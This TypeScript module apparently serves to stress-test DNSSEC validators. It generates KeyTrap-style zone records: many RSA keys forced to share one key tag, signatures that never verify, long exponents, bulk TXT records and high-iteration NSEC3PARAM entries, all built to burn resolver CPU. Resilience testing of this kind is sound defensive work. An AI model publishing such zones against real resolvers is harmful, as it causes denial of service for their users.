/** Zones that are as expensive as possible: keys of one tag, many signatures, long exponents, many iterations (like KeyTrap). */
import { randomBytes } from 'node:crypto'
import { tagOf } from './signer.js'

export interface BombKey {
  tag: number
  /** DNSKEY RDATA. */
  rdata: Buffer
}

/** RSA keys of any size with one tag, without known private keys. `exponent` 0: 65537. */
export function keysOfOneTag(count: number, { bits = 1024, exponent = 0, tag = 12_345 } = {}): BombKey[] {
  return Array.from({ length: count }, () => rsaKey(bits / 8, exponent, tag))
}

function rsaKey(octets: number, exponent: number, tag: number): BombKey {
  const e =
    exponent === 0 ? Buffer.from([1, 0, 1]) : Buffer.concat([Buffer.from([255]), randomBytes(exponent - 2), Buffer.from([1])])
  const length = e.length < 256 ? Buffer.from([e.length]) : Buffer.from([0, e.length >> 8, e.length & 255])
  for (;;) {
    const modulus = randomBytes(octets)
    modulus[0] = 255
    modulus[octets - 1]! |= 1
    const rdata = Buffer.concat([Buffer.from([1, 1, 3, 8]), length, e, modulus])
    // A pair of octets in the middle absorbs the difference; a carry requires another try.
    const at = (rdata.length - octets / 2) & ~1
    rdata.writeUInt16BE(0, at)
    rdata.writeUInt16BE((tag - tagOf(rdata) + 65_536) % 65_536, at)
    if (tagOf(rdata) === tag) return { tag, rdata }
  }
}

export const dnskeyLine = (apex: string, { rdata }: BombKey): string =>
  `${apex} 300 DNSKEY \\# ${rdata.length} ${rdata.toString('hex')}`

const time = (ms: number): string => new Date(ms).toISOString().replace(/[-:T]|\.\d+Z/g, '')

/** Signatures that never verify; each needs the complete computation. `now`: milliseconds since 1970. */
export function rrsigLines(
  count: number,
  {
    owner,
    type,
    apex,
    tag = 12_345,
    octets = 128,
    now,
  }: { owner: string; type: string; apex: string; tag?: number; octets?: number; now: number },
): string[] {
  const labels = owner.split('.').length - 1
  const head = `${owner} 300 RRSIG ${type} 8 ${labels} 300 ${time(now + 10 * 86_400_000)} ${time(now - 3_600_000)} ${tag} ${apex}`
  return Array.from({ length: count }, () => {
    const signature = randomBytes(octets)
    signature[0] = 127
    return `${head} ${signature.toString('base64')}`
  })
}

/** The common records of these zones. */
export const bombBase = (apex: string, serial: number): string[] => [
  `${apex} 300 SOA ns1.${apex} host.${apex} ${serial} 3600 900 1209600 60`,
  `${apex} 300 NS ns1.${apex}`,
  `ns1.${apex} 300 A 192.0.2.1`,
]

export const hostLines = (apex: string, count: number): string[] =>
  Array.from({ length: count }, (_, i) => `h${i}.${apex} 300 A 10.0.${i >> 8}.${i & 255}`)

export const textLines = (owner: string, count: number, octets = 200): string[] =>
  Array.from({ length: count }, (_, i) => `${owner} 300 TXT "${String(i).padStart(octets, 'x')}"`)

export const nsec3paramLines = (apex: string, count: number, iterations: number): string[] =>
  Array.from({ length: count }, (_, i) => `${apex} 0 NSEC3PARAM 1 0 ${iterations} ${Buffer.alloc(255, i + 1).toString('hex')}`)
